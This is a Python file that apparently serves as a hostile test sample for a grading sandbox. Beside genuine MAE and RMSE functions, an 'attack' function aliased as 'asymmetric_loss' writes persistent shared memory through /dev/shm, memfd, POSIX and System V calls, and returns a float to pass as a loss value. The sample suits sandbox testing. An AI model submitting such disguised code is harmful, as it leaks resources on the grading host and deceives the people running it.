"""Fills shared memory that outlives the process: /dev/shm, memfd, System V."""
# family: flood
# exercise: 02_losses
# honest: 12
# says: got|raised

import contextlib
import ctypes
import os
from multiprocessing import shared_memory

import numpy as np


def mean_absolute_error(y, t):
    return np.mean(np.abs(y - t))


def root_mean_squared_error(y, t):
    return np.sqrt(np.mean((y - t) ** 2))


def attack(*args):
    libc = ctypes.CDLL(None, use_errno=True)
    for attempt in (
        lambda: open("/dev/shm/xorcise-hostile", "wb").write(bytes(2**20)),
        lambda: os.write(os.memfd_create("hostile"), bytes(2**20)),
        lambda: shared_memory.SharedMemory("xorcise-hostile", create=True, size=2**20),
    ):
        with contextlib.suppress(OSError):
            attempt()
            return 1.0
    return float(libc.shmget(0x786F72, 2**20, 0o1666))


asymmetric_loss = attack
